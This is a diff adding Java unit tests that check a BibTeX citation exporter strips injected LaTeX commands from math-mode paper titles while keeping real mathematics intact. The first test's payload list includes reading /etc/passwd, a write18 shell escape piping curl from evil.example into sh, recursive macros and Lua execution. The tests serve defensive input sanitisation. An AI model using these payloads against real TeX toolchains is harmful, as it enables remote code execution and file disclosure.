@@ -19,6 +19,26 @@ import io.paperwire.events.Publication;
 
 class BibtexTest {
 
+    @ParameterizedTest
+    @ValueSource(strings = {"\\input{/etc/passwd}", "\\immediate\\write18{curl evil.example|sh}", "\\def\\x{\\x}\\x",
+            "\\csname input\\endcsname{a}", "^^5cinput{a}", "\\begin{filecontents}{a}b\\end{filecontents}",
+            "\\end{document}", "\\includegraphics{a}", "\\renewcommand{\\alpha}{\\beta}", "\\directlua{os.exit()}",
+            "\\catcode`\\a=0", "\\ifx a b\\fi", "\\newwrite\\a", "x_{\\openout3=a}"})
+    void commands_that_are_no_mathematics_are_text(String commands) {
+        for (String title : List.of("On $" + commands + "$ and more", "On \\(" + commands + "\\)",
+                "$$" + commands + "$$"))
+            assertThat(write(CitationFormat.BIBTEX, paper(title).make())).contains("title = {")
+                    .doesNotContain(commands);
+    }
+
+    @ParameterizedTest
+    @ValueSource(strings = {"a \\iff b", "\\begin{pmatrix*}1 & 2\\end{pmatrix*}", "\\begin{cases}1\\end{cases}",
+            "\\mathcal{O}(n^{\\epsilon})", "\\cA \\defeq \\operatorname{arg\\,min}", "x \\notin \\{1\\}"})
+    void mathematics_stays_as_it_is(String maths) {
+        assertThat(write(CitationFormat.BIBTEX, paper("On $" + maths + "$ and more").make()))
+                .contains("$" + maths + "$");
+    }
+
     @Test
     void a_publisher_stands_where_styles_print_it_once() {
         Publication moss = new Publication(null, null, null, "Moss", null);
